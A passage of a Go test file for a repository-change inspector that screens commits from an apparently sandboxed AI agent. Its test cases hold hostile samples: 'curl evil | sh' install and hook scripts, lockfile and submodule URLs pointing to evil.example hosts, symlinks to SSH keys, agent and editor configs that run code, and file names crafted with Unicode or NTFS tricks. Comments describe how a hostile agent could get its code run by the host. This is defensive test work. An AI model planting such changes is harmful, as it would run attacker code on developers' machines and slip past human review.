package inspect

import (
	"context"
	"crypto/sha1"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/git-airlock/git-airlock/gitx"
	"github.com/git-airlock/git-airlock/internal/xec"
)

// memBlobs is an object store in memory for unit tests.
type memBlobs map[string][]byte

func (m memBlobs) put(content string) string {
	sum := sha1.Sum([]byte(content))
	h := hex.EncodeToString(sum[:])
	m[h] = []byte(content)
	return h
}

func (m memBlobs) BlobSize(h string) (int64, error) {
	b, ok := m[h]
	if !ok {
		return 0, fmt.Errorf("no blob %s", h)
	}
	return int64(len(b)), nil
}

func (m memBlobs) BlobHead(h string, max int64) ([]byte, error) {
	b, ok := m[h]
	if !ok {
		return nil, fmt.Errorf("no blob %s", h)
	}
	return b[:min(int64(len(b)), max)], nil
}

// BlobConfig runs git's own config parser, as gitx does.
func (m memBlobs) BlobConfig(h string) ([]gitx.ConfigEntry, error) {
	b, ok := m[h]
	if !ok {
		return nil, fmt.Errorf("no blob %s", h)
	}
	f := filepath.Join(os.TempDir(), "airlock-inspect-test-"+h)
	if err := os.WriteFile(f, b, 0o644); err != nil {
		return nil, err
	}
	defer os.Remove(f)
	out, err := (&xec.Runner{}).Output(context.Background(), xec.Cmd{Argv: []string{"git", "config", "--no-includes", "-z", "-f", f, "--list"}})
	if err != nil {
		return nil, gitx.ErrConfigSyntax
	}
	return gitx.ParseConfigList(out), nil
}

func added(m memBlobs, p, content string) gitx.TreeChange {
	return gitx.TreeChange{Status: 'A', Path: p, OldMode: 0, NewMode: gitx.ModeFile, OldHash: zeroHash, NewHash: m.put(content)}
}

func modified(m memBlobs, p, old, new string) gitx.TreeChange {
	return gitx.TreeChange{Status: 'M', Path: p, OldMode: gitx.ModeFile, NewMode: gitx.ModeFile, OldHash: m.put(old), NewHash: m.put(new)}
}

func rules(t *testing.T, fs []Finding) string {
	t.Helper()
	var out []string
	for _, f := range fs {
		out = append(out, f.Level+":"+f.Rule)
	}
	return strings.Join(out, " ")
}

// samplePath turns a pattern into a path it must match.
func samplePath(pat string) string {
	if dir, ok := strings.CutSuffix(pat, "/**"); ok {
		return dir + "/sub/file.yml"
	}
	p := strings.ReplaceAll(pat, "*", "x")
	if !strings.Contains(pat, "/") {
		return "deep/dir/" + p
	}
	return p
}

// TestRulesTable: every pattern of every path rule finds its rule, at its
// severity, and a deletion of it at most medium.
func TestRulesTable(t *testing.T) {
	for _, r := range Rules {
		for _, pat := range r.Patterns {
			t.Run(r.ID+"/"+pat, func(t *testing.T) {
				m := memBlobs{}
				p := samplePath(pat)
				fs, err := Inspect([]gitx.TreeChange{added(m, p, "content\n")}, m, Options{})
				if err != nil {
					t.Fatal(err)
				}
				want := r.Severity.String() + ":" + r.ID
				if got := rules(t, fs); got != want {
					t.Fatalf("%s: got %q, want %q", p, got, want)
				}
				del := gitx.TreeChange{Status: 'D', Path: p, OldMode: gitx.ModeFile, OldHash: m.put("x"), NewHash: zeroHash}
				fs, _ = Inspect([]gitx.TreeChange{del}, m, Options{})
				if wantSev := min(r.Severity, Medium); r.ID == "airlock-config" {
					wantSev = High // the gate's protect list goes with it
				} else if len(fs) == 1 && fs[0].Severity > wantSev {
					t.Fatalf("deleting %s: %+v", p, fs)
				}
				if len(fs) != 1 || !strings.HasPrefix(fs[0].Why, "removes it") {
					t.Fatalf("deleting %s: %+v", p, fs)
				}
			})
		}
	}
}

func TestContentAndModeChecks(t *testing.T) {
	m := memBlobs{}
	exe := added(m, "tools/run.sh", "#!/bin/sh\n")
	exe.NewMode = gitx.ModeExec
	modeOnly := modified(m, "bin/tool", "x", "x")
	modeOnly.NewMode = gitx.ModeExec
	link := func(p, target string) gitx.TreeChange {
		return gitx.TreeChange{Status: 'A', Path: p, NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
	}
	big := added(m, "data/big.csv", strings.Repeat("x", 6<<20))
	tests := []ruleCase{
		{"benign source", added(m, "src/main.go", "package main\n"), ""},
		{"benign test", modified(m, "src/main_test.go", "a", "b"), ""},
		{"npm postinstall", modified(m, "package.json", `{"scripts":{"test":"jest"}}`, `{"scripts":{"test":"jest","postinstall":"node x.js"}}`), "high:install-script"},
		{"npm test script only", modified(m, "package.json", `{"scripts":{"test":"jest"}}`, `{"scripts":{"test":"vitest"}}`), "medium:package-script"},
		{"npm git dependency", modified(m, "web/package.json", `{}`, `{"dependencies":{"x":"git+https://evil.example/x.git"}}`), "medium:dependency-source"},
		{"lockfile same hosts", modified(m, "package-lock.json", npmLockOf("a", "1", "https://registry.npmjs.org/a/-/a-1.tgz", "sha512-one"), npmLockOf("a", "2", "https://registry.npmjs.org/a/-/a-2.tgz", "sha512-two")), ""},
		{"lockfile new host", modified(m, "package-lock.json", npmLockOf("a", "1", "https://registry.npmjs.org/a/-/a-1.tgz", "sha512-one"), npmLockOf("a", "1", "https://evil.example.com/a-1.tgz", "sha512-one")), "high:lockfile-source"},
		{"cargo lock git source", modified(m, "Cargo.lock", `source = "registry+https://github.com/rust-lang/crates.io-index"`, "source = \"git+https://gitlab.example.org/x#abc\""), "high:lockfile-source"},
		{"gitattributes eol", modified(m, "sub/.gitattributes", "", "*.sh eol=lf\n"), "medium:git-attributes"},
		{"gitmodules url", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n", "[submodule \"a\"]\n\tpath = a\n\turl = https://evil.example/a\n"), "high:submodule-url"},
		{"pyproject backend", modified(m, "pyproject.toml", "[project]\nname='x'\n", "[build-system]\nbuild-backend = 'evil'\n[project]\nname='x'\n"), "high:build-backend"},
		{"pyproject deps only", modified(m, "pyproject.toml", "[project]\ndependencies=[]\n", "[project]\ndependencies=['x']\n"), ""},
		{"new executable", exe, "medium:executable"},
		{"mode-only change", modeOnly, "medium:executable"},
		{"symlink inside", link("docs/readme", "../README.md"), "medium:symlink"},
		{"symlink absolute", link("leak", "/etc/passwd"), "high:symlink-escape"},
		{"symlink escaping", link("a/leak", "../../../home/u/.ssh/id_ed25519"), "high:symlink-escape"},
		{"binary", added(m, "img/logo.png", "\x89PNG\x00\x00data"), "low:binary"},
		{"large", big, "medium:large-file"},
		{"bidi name", added(m, "src/evil\u202egnp.go", "x"), "high:file-name"},
		{"zero-width name", added(m, ".github/work\u200bflows/x.yml", "x"), "high:file-name"},
		{"renamed into CI", gitx.TreeChange{Status: 'R', OldPath: "scripts/x.yml", Path: ".github/workflows/x.yml", OldMode: gitx.ModeFile, NewMode: gitx.ModeFile, OldHash: m.put("a"), NewHash: m.put("a")}, "high:ci"},
		{"renamed out of hooks", gitx.TreeChange{Status: 'R', OldPath: ".husky/pre-commit", Path: "old/pre-commit", OldMode: gitx.ModeFile, NewMode: gitx.ModeFile, OldHash: m.put("b"), NewHash: m.put("b")}, "high:hook-manager"},
		{"submodule pointer that cannot be read", gitx.TreeChange{Status: 'M', Path: "vendor/lib", OldMode: gitx.ModeGitlink, NewMode: gitx.ModeGitlink, OldHash: strings.Repeat("1", 40), NewHash: strings.Repeat("2", 40)}, "high:submodule-unreviewable"},
		{"CI and exec", func() gitx.TreeChange { c := added(m, ".circleci/run.sh", "x"); c.NewMode = gitx.ModeExec; return c }(), "high:ci medium:executable"},
	}
	checkRuleCases(t, m, tests)
}

func TestProtect(t *testing.T) {
	m := memBlobs{}
	fs, err := Inspect([]gitx.TreeChange{added(m, "deploy/prod.yaml", "x"), added(m, "src/ok.go", "x")}, m,
		Options{Protect: []string{"deploy/**"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := rules(t, fs); got != "high:protected" {
		t.Fatalf("got %q", got)
	}
}

func FuzzParseRawDiffInspect(f *testing.F) {
	f.Add([]byte(":000000 100644 0000000000000000000000000000000000000000 e69de29bb2d1d6434b8b29ae775ad8c2e48c5391 A\x00a.txt\x00"))
	f.Add([]byte(":100644 100644 aaaa bbbb R100\x00old\x00new\x00"))
	f.Fuzz(func(t *testing.T, b []byte) {
		changes, err := gitx.ParseRawDiff(b)
		if err != nil {
			return
		}
		m := memBlobs{}
		for i := range changes {
			changes[i].NewHash = m.put(changes[i].Path)
		}
		if _, err := Inspect(changes, m, Options{}); err != nil {
			t.Fatal(err)
		}
	})
}

func TestMergeFindings(t *testing.T) {
	m := memBlobs{}
	changes := []gitx.TreeChange{added(m, "fix.go", "v1"), added(m, "src/conflict.go", "x")}
	fs, err := Inspect(changes, m, Options{Unseen: []string{"fix.go", "not-changed.go"}, Conflicts: []string{"src/conflict.go"}, CrissCross: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := rules(t, fs), "high:criss-cross high:unseen-change medium:merge-conflict"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

// TestParserDifferences: each case is a hostile change written for a
// parser that reads the file differently from the tool that runs it.
func TestParserDifferences(t *testing.T) {
	m := memBlobs{}
	pkg := `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"}}`
	bigLock := `{"packages":{` + strings.Repeat(`"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.tgz"},`, 3<<20/70)
	tests := []ruleCase{
		{"npm case-folded Scripts shadow", modified(m, "package.json", pkg,
			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"},"Scripts":{"postinstall":"npm run build"}}`), "high:install-script"},
		{"npm only Scripts is ignored by npm", modified(m, "package.json", pkg,
			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"Scripts":{"postinstall":"curl evil | sh"}}`), ""},
		{"npm duplicate scripts, last wins", modified(m, "package.json", pkg,
			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"scripts":{"postinstall":"curl evil | sh"}}`), "high:manifest-duplicate-key high:install-script"},
		{"npm duplicate script name", modified(m, "package.json", pkg,
			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh","postinstall":"npm run build"}}`), "high:manifest-duplicate-key"},
		{"npm preprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","preprepare":"sh x"}}`), "high:install-script"},
		{"npm postprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","postprepare":"sh x"}}`), "high:install-script"},
		{"npm escaped key", modified(m, "package.json", pkg, `{"name":"x","scr\u0069pts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
		{"npm BOM", modified(m, "package.json", pkg, "\ufeff"+`{"name":"x","scripts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
		{"npm unparsable", modified(m, "package.json", pkg, `{"name":"x","scripts":{"postinstall":"sh x"},}`), "high:manifest-unparsable"},
		{"npm trailing content", modified(m, "package.json", pkg, pkg+`{}`), "high:manifest-unparsable"},
		{"npm over the content cap", modified(m, "package.json", pkg,
			`{"name":"x","scripts":{"postinstall":"sh x"},"pad":"`+strings.Repeat("x", maxContent)+`"}`), "high:too-large-to-check medium:large-file"},
		{"npm benign script edit", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"vitest","postinstall":"npm run build"},"version":"2"}`), "medium:package-script"},
		{"npm version bump only", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"version":"2"}`), ""},
		{"pyproject quoted keys", modified(m, "pyproject.toml", "[project]\nname='x'\n",
			"[\"build-system\"]\n\"build-backend\" = 'evil'\n[project]\nname='x'\n"), "high:build-backend"},
		{"pyproject inline table", modified(m, "pyproject.toml", "[project]\nname='x'\n",
			"build-system = { requires = ['evil'], build-backend = 'evil' }\n[project]\nname='x'\n"), "high:build-backend"},
		{"pyproject hatch build hook", modified(m, "pyproject.toml", "[project]\nname='x'\n",
			"[project]\nname='x'\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'hook.py'\n"), "high:build-backend"},
		{"pyproject unparsable", modified(m, "pyproject.toml", "[project]\nname='x'\n", "[project\nname='x'\n"), "high:manifest-unparsable"},
		{"pyproject dependency bump", modified(m, "pyproject.toml", "[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==1']\n",
			"[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==2']\n"), ""},
		{"gitmodules URL in capitals", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
			"[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n\tURL = https://evil.example/a\n"), "high:submodule-url"},
		{"gitmodules one-line section", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
			"[submodule \"a\"] path = a\n[submodule \"a\"] url = https://evil.example/a\n"), "high:submodule-url"},
		{"gitmodules update command", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n",
			"[submodule \"a\"]\n\tpath = a\n\tUpdate = !sh -c evil\n"), "high:submodule-url"},
		{"gitmodules unparsable", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n", "[submodule \"a\n\turl = x\n"), "high:gitmodules-unparsable"},
		{"gitmodules reformatted only", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
			"[submodule \"a\"]\n  path=a\n  url=https://github.com/a/a\n  ignore = dirty\n"), "medium:gitmodules"},
		{"lockfile new host after 3 MiB", modified(m, "package-lock.json", bigLock+`"z":{}}}`,
			bigLock+`"node_modules/z":{"resolved":"https://evil.example.com/z.tgz"}}}`), "high:lockfile-source"},
	}
	checkRuleCases(t, m, tests)
}

// TestLinksAndPathsAsToolsSeeThem: a hostile agent reaches paths that run
// code through links, case variants and the host's own hooks directory.
func TestLinksAndPathsAsToolsSeeThem(t *testing.T) {
	m := memBlobs{}
	link := func(p, target string) gitx.TreeChange {
		return gitx.TreeChange{Status: 'A', Path: p, NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put(target)}
	}
	entry := func(c gitx.TreeChange) gitx.TreeEntry {
		return gitx.TreeEntry{Mode: c.NewMode, Hash: c.NewHash, Path: c.Path}
	}
	file := func(p, content string) gitx.TreeEntry {
		return gitx.TreeEntry{Mode: gitx.ModeFile, Hash: m.put(content), Path: p}
	}
	tasks := modified(m, "cfg/tasks.json", `{}`, `{"tasks":[{"command":"sh x","runOptions":{"runOn":"folderOpen"}}]}`)
	vscode := link(".vscode", "cfg")
	githubLink := link(".github", "ci")
	ciMake := added(m, "ci/workflows/Makefile", "all:")
	ab, up := link("a/b", ".."), link("up", "a/b/../..")
	loopA, loopB := link("loop/a", "b"), link("loop/b", "a")
	gitDir, gitDirCase, subGit := link("g", ".git/hooks"), link("h", "./.GIT"), link("s", "vendor/lib/.git")
	readme := link("docs/readme", "../README.md")
	pkgLink := link("package.json", "x/pkg.txt")
	pkgFile := file("x/pkg.txt", `{"scripts":{"postinstall":"sh evil"}}`)
	tests := []struct {
		name    string
		changes []gitx.TreeChange
		tree    []gitx.TreeEntry
		hooks   string
		want    string
	}{
		{"file changed behind a directory link", []gitx.TreeChange{tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
		{"build file that is CI behind a link", []gitx.TreeChange{ciMake}, []gitx.TreeEntry{entry(githubLink), entry(ciMake)}, "", "high:ci medium:build-file"},
		{"directory link to an existing file", []gitx.TreeChange{vscode}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
		{"link and file together", []gitx.TreeChange{vscode, tasks}, []gitx.TreeEntry{entry(vscode), entry(tasks)}, "", "high:editor-tasks"},
		{"chain leaves the checkout", []gitx.TreeChange{ab, up}, []gitx.TreeEntry{entry(ab), entry(up)}, "", "high:symlink-escape medium:symlink"},
		{"link loop", []gitx.TreeChange{loopA, loopB}, []gitx.TreeEntry{entry(loopA), entry(loopB)}, "", "high:symlink-escape high:symlink-escape"},
		{"link into .git", []gitx.TreeChange{gitDir}, []gitx.TreeEntry{entry(gitDir)}, "", "high:symlink-git-dir"},
		{"link into .GIT", []gitx.TreeChange{gitDirCase}, []gitx.TreeEntry{entry(gitDirCase)}, "", "high:symlink-git-dir"},
		{"link into a submodule's .git", []gitx.TreeChange{subGit}, []gitx.TreeEntry{entry(subGit)}, "", "high:symlink-git-dir"},
		{"manifest through a file link", []gitx.TreeChange{pkgLink}, []gitx.TreeEntry{entry(pkgLink), pkgFile}, "", "high:install-script"},
		{"benign docs link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme), file("README.md", "hi")}, "", ""},
		{"dangling link", []gitx.TreeChange{readme}, []gitx.TreeEntry{entry(readme)}, "", "medium:symlink"},
		{"tracked core.hooksPath", []gitx.TreeChange{modified(m, "scripts/git-hooks/pre-commit", "make lint", "curl evil | sh")}, nil, "scripts/git-hooks", "high:hooks-path"},
		{"outside core.hooksPath", []gitx.TreeChange{modified(m, "scripts/build.sh", "a", "b")}, nil, "scripts/git-hooks", ""},
		{"Package.json", []gitx.TreeChange{added(m, "Package.json", `{"scripts":{"postinstall":"sh x"}}`)}, nil, "", "high:install-script"},
		{"Setup.py", []gitx.TreeChange{added(m, "Setup.py", "import os")}, nil, "", "high:build-script"},
		{".GitHub/workflows", []gitx.TreeChange{added(m, ".GitHub/Workflows/x.yml", "on: push")}, nil, "", "high:ci"},
		{"long s in .github", []gitx.TreeChange{added(m, ".github/workflow\u017f/x.yml", "on: push")}, nil, "", "high:ci"},
		{"Kelvin sign in Makefile", []gitx.TreeChange{added(m, "Ma\u212aefile", "all:")}, nil, "", "medium:build-file"},
		{"link name in another case", []gitx.TreeChange{tasks}, []gitx.TreeEntry{entry(link(".VSCode", "cfg")), entry(tasks)}, "", "high:editor-tasks"},
		{"link target in another case", []gitx.TreeChange{link(".vscode", "CFG")}, []gitx.TreeEntry{entry(link(".vscode", "CFG")), entry(tasks)}, "", "high:editor-tasks"},
		{"link target with a sibling that sorts before its files", []gitx.TreeChange{vscode},
			[]gitx.TreeEntry{entry(vscode), file("cfg-old/x", "x"), entry(tasks)}, "", "high:editor-tasks"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := Inspect(tc.changes, m, Options{Tree: tc.tree, Host: Host{HooksPath: tc.hooks}})
			if err != nil {
				t.Fatal(err)
			}
			if got := rules(t, fs); got != tc.want {
				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
			}
		})
	}
}

// TestFilesThatRunCode: configs a hostile agent edits so that the host's
// package manager, build tool, editor or next agent session runs its code.
func TestFilesThatRunCode(t *testing.T) {
	m := memBlobs{}
	cargo := "[package]\nname = \"x\"\nversion = \"0.1.0\"\n[dependencies]\nserde = \"1.0.1\"\n"
	tests := []ruleCase{
		{"cargo config runner", added(m, "crates/x/.cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = 'sh evil'\n"), "high:package-manager-config"},
		{"npmrc script-shell", added(m, ".npmrc", "script-shell=/tmp/evil\n"), "high:package-manager-config"},
		{"yarnPath", modified(m, ".yarnrc.yml", "nodeLinker: pnp\n", "nodeLinker: pnp\nyarnPath: .yarn/evil.cjs\n"), "high:package-manager-config"},
		{"pnpmfile", added(m, ".pnpmfile.cjs", "module.exports = {hooks: {readPackage(p) { require('child_process').exec('evil'); return p }}}"), "high:package-manager-config"},
		{"binding.gyp", added(m, "native/binding.gyp", "{'targets': []}"), "high:package-manager-config"},
		{"code-workspace tasks", added(m, "x.code-workspace", `{"tasks": {"tasks": [{"command": "sh evil"}]}}`), "high:editor-tasks"},
		{"Cargo.toml build=", modified(m, "Cargo.toml", cargo, strings.Replace(cargo, "version", "build = \"tools/evil.rs\"\nversion", 1)), "high:build-script"},
		{"Cargo.toml dependency bump", modified(m, "Cargo.toml", cargo, strings.Replace(cargo, "1.0.1", "1.0.2", 1)), ""},
		{"lint-staged config", added(m, ".lintstagedrc.json", `{"*": "sh evil"}`), "high:hook-manager"},
		{"lint-staged in package.json", modified(m, "package.json", `{"name":"x"}`, `{"name":"x","lint-staged":{"*":"sh evil"}}`), "high:hook-manager"},
		{"husky 4 in package.json", modified(m, "package.json", `{"name":"x"}`, `{"name":"x","husky":{"hooks":{"pre-commit":"sh evil"}}}`), "high:hook-manager"},
		{"claude hooks", added(m, ".claude/settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh evil"}]}]}}`), "high:agent-config"},
		{"mcp server", added(m, ".mcp.json", `{"mcpServers":{"x":{"command":"sh","args":["evil"]}}}`), "high:agent-config"},
		{"gemini settings", added(m, ".gemini/settings.json", `{}`), "high:agent-config"},
		{"cursor mcp", added(m, ".cursor/mcp.json", `{}`), "high:agent-config"},
		{"cursor rules stay instructions", added(m, ".cursor/rules/x.mdc", "be nice"), "medium:agent-instructions"},
		{"vscode interpreter path", modified(m, ".vscode/settings.json", "{}", "{\n  \"python.defaultInterpreterPath\": \"./evil\"\n}"), "high:editor-exec-setting"},
		{"vscode git path", modified(m, ".vscode/settings.json", "{}", "{\n  \"git.path\": \"./evil\"\n}"), "high:editor-exec-setting"},
		{"vscode font size", modified(m, ".vscode/settings.json", "{}", "{\n  \"editor.fontSize\": 14\n}"), "medium:editor-settings"},
	}
	checkRuleCases(t, m, tests)
}

// TestWhyNeverCarriesTerminalEscapes: every reason quotes what came from
// the sandbox, so an escape sequence in a link target, a script or a
// setting reaches the terminal as text.
func TestWhyNeverCarriesTerminalEscapes(t *testing.T) {
	m := memBlobs{}
	esc := "\x1b]0;owned\x07\x1b[2J"
	link := gitx.TreeChange{Status: 'A', Path: ".vscode", NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put("cfg" + esc)}
	tasks := gitx.TreeEntry{Mode: gitx.ModeFile, Hash: m.put("{}"), Path: "cfg" + esc + "/tasks.json"}
	changes := []gitx.TreeChange{
		link,
		added(m, "package.json", `{"scripts":{"postinstall":"sh `+strings.ReplaceAll(esc, "\x1b", `\u001b`)+`"}}`),
		modified(m, ".vscode/settings.json", "{}", "{\n\"git.path"+esc+"\": \"x\"\n}"),
		added(m, ".gitattributes", "* filter=x"+esc+"\n"),
		{Status: 'A', Path: "l", NewMode: gitx.ModeSymlink, OldHash: zeroHash, NewHash: m.put("/" + esc)},
	}
	fs, err := Inspect(changes, m, Options{Tree: []gitx.TreeEntry{{Mode: gitx.ModeSymlink, Hash: link.NewHash, Path: ".vscode"}, tasks}})
	if err != nil {
		t.Fatal(err)
	}
	if len(fs) < 5 {
		t.Fatalf("want a finding per change, have %+v", fs)
	}
	for _, f := range fs {
		if strings.ContainsAny(f.Why, "\x1b\x07") {
			t.Errorf("%s: reason carries raw control characters: %q", f.Rule, f.Why)
		}
	}
}

// TestPathsAsPlatformsSeeThem: names a hostile agent picks so that git
// stores one path and macOS or Windows opens another. Each is judged as
// the path it opens; ordinary non-ASCII names stay clean.
func TestPathsAsPlatformsSeeThem(t *testing.T) {
	m := memBlobs{}
	postinstall := `{"scripts":{"postinstall":"sh evil"}}`
	tests := []struct {
		name    string
		change  gitx.TreeChange
		protect []string
		want    string
	}{
		{"zero-width non-joiner HFS+ ignores", added(m, ".git\u200chub/workflows/x.yml", "on: push"), nil, "high:file-name high:ci"},
		{"byte order mark inside a name", added(m, ".env\ufeffrc", "eval x"), nil, "high:file-name high:direnv"},
		{"direction mark before a dot", added(m, "\u200e.husky/pre-commit", "sh evil"), nil, "high:file-name high:hook-manager"},
		{"NFD name against an NFC protect pattern", added(m, "cafe\u0301/secret.txt", "x"), []string{"café/**"}, "high:protected"},
		{"NFC name against an NFD protect pattern", added(m, "caf\u00e9/secret.txt", "x"), []string{"cafe\u0301/**"}, "high:protected"},
		{"NTFS trailing dot", added(m, "Package.json.", postinstall), nil, "high:install-script"},
		{"NTFS trailing spaces and dots", added(m, ".envrc . .", "eval x"), nil, "high:direnv"},
		{"NTFS trailing dot on a directory", added(m, ".github./workflows/x.yml", "on: push"), nil, "high:ci"},
		{"NTFS default data stream", added(m, "package.json::$DATA", postinstall), nil, "high:install-script"},
		{"NTFS backslash separator", added(m, ".github\\workflows\\x.yml", "on: push"), nil, "high:ci"},
		{"NTFS 8.3 short name of .github", added(m, "GITHUB~1/workflows/x.yml", "on: push"), nil, "high:ci"},
		{"NTFS 8.3 short name, second of its base", added(m, "github~2/workflows/x.yml", "on: push"), nil, "high:ci"},
		{"NTFS 8.3 short name of a file", added(m, "DEVCON~1.JSO", "{}"), nil, "high:devcontainer"},
		{"ligature fi in Makefile", added(m, "Make\ufb01le", "all:"), nil, "medium:build-file"},
		{"fullwidth letters are another file", added(m, "\uff4dakefile", "all:"), nil, ""},
		{"benign accented name", added(m, "docs/café.md", "hi"), nil, ""},
		{"benign NFD accented name", added(m, "docs/cafe\u0301.md", "hi"), nil, ""},
		{"benign CJK name", added(m, "src/日本語/main.go", "package main"), nil, ""},
		{"benign tilde name", added(m, "notes~1.txt", "hi"), nil, ""},
		{"benign dotted name", added(m, "v1.2./notes.md", "hi"), nil, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{Protect: tc.protect})
			if err != nil {
				t.Fatal(err)
			}
			if got := rules(t, fs); got != tc.want {
				t.Fatalf("got %q, want %q\n%+v", got, tc.want, fs)
			}
		})
	}
}

func TestKey(t *testing.T) {
	same := [][2]string{
		{"Package.json", "package.json"},
		{".GitHub/Workflows/x.yml", ".github/workflows/x.yml"},
		{"Ma\u212aefile", "makefile"},                   // Kelvin sign: APFS folds it to k
		{".github/workflow\u017f", ".github/workflows"}, // long s: APFS folds it to s, NTFS upper-cases it to S
		{"cafe\u0301", "caf\u00e9"},
		{"CAFE\u0301", "caf\u00e9"},
		{".g\u200bit", ".g\u200bit"}, // U+200B is not in HFS+'s list: kept
		{"a.\\b ", "a/b"},
		{"x:stream", "x"},
		{"GIT~1", ".git"},
		{"/abs/x", "/abs/x"},
		{"..", ".."},
		{"a/./..", "a/./.."},
	}
	for _, s := range same {
		if Key(s[0]) != Key(s[1]) {
			t.Errorf("Key(%q) = %q, Key(%q) = %q: want the same", s[0], Key(s[0]), s[1], Key(s[1]))
		}
	}
	differ := [][2]string{
		{".g\u200bithub", ".github"},
		{"\uff4dakefile", "makefile"},
		{"a/b", "a b"},
		{"notes~1.txt", "notes.txt"},
	}
	for _, d := range differ {
		if Key(d[0]) == Key(d[1]) {
			t.Errorf("Key(%q) = Key(%q) = %q: want them apart", d[0], d[1], Key(d[0]))
		}
	}
}

// TestAttributeDrivers: what git says a changed .gitattributes assigns
// (gitx.Repo.Attributes) is judged per path; the finding sits on the
// nearest changed .gitattributes above the path.
func TestAttributeDrivers(t *testing.T) {
	m := memBlobs{}
	root := modified(m, ".gitattributes", "*.txt text\n", "*.txt text\n[attr]m filter=x\n")
	sub := added(m, "assets/.gitattributes", "*.png m\n")
	before := map[string]map[string]string{"docs/a.md": {"diff": "markdown"}}
	after := map[string]map[string]string{
		"docs/a.md":    {"diff": "markdown"},
		"assets/x.png": {"filter": "x", "diff": "x"}, "assets/y.png": {"filter": "x", "diff": "x"}, "assets/z.png": {"filter": "x", "diff": "x"}, "assets/w.png": {"filter": "x", "diff": "x"},
		"src/e.go": {"merge": "e\x1b[2J"},
	}
	fs, err := Inspect([]gitx.TreeChange{root, sub}, m, Options{Attributes: &AttributeChange{Before: before, After: after}})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range fs {
		got = append(got, f.Level+" "+f.Path+": "+f.Why)
	}
	want := []string{
		`high .gitattributes: assigns the merge driver "e\033[2J" to src/e.go: git runs the command your config names for it on checkout, diff or merge`,
		`high assets/.gitattributes: assigns the diff driver "x", the filter driver "x" to assets/w.png, assets/x.png, assets/y.png and 1 more: git runs the command your config names for it on checkout, diff or merge`,
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	none, err := Inspect([]gitx.TreeChange{added(m, "src/a.go", "x")}, m, Options{Attributes: &AttributeChange{Before: before, After: after}})
	if err != nil || len(none) != 0 {
		t.Fatalf("no .gitattributes changed: %+v, %v", none, err)
	}
}

// TestAttributeProbesMatchAsGitMatches: each probe is a path git itself
// says the pattern covers (git check-attr against the line).
func TestAttributeProbesMatchAsGitMatches(t *testing.T) {
	patterns := []string{"*.bin", "/top.txt", "docs/**/x.md", "**/secret", "[abc]*.c", "[!x]y.go", `"a b.txt"`, `"q\"uote"`,
		`\#hash`, "*.t?t", "sub/*.sh", "***.weird"}
	dir := t.TempDir()
	run := func(stdin string, args ...string) string {
		t.Helper()
		out, err := (&xec.Runner{}).Output(context.Background(), xec.Cmd{Argv: append([]string{"git", "-C", dir}, args...), Stdin: strings.NewReader(stdin)})
		if err != nil {
			t.Fatal(err)
		}
		return string(out)
	}
	run("", "init", "-q")
	for _, pat := range patterns {
		content := pat + " filter=probe\n"
		probes := AttributeProbes("lib/.gitattributes", []byte(content))
		if len(probes) != 1 {
			t.Errorf("%s: probes %v, want one", pat, probes)
			continue
		}
		if err := os.MkdirAll(filepath.Join(dir, "lib"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "lib", ".gitattributes"), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		for p := range probes {
			if out := run(p+"\x00", "check-attr", "-z", "--stdin", "filter"); !strings.HasSuffix(out, "\x00filter\x00probe\x00") {
				t.Errorf("pattern %s: probe %q gets %q from git, not the driver", pat, p, out)
			}
		}
	}
	if p := AttributeProbes(".gitattributes", []byte("[attr]m filter=x\n# *.c filter=x\n\n")); len(p) != 0 {
		t.Errorf("macros and comments are no patterns: %v", p)
	}
}

func TestLongLinkTargetIsCutInTheReason(t *testing.T) {
	m := memBlobs{}
	target := strings.Repeat("\x00", 4096)
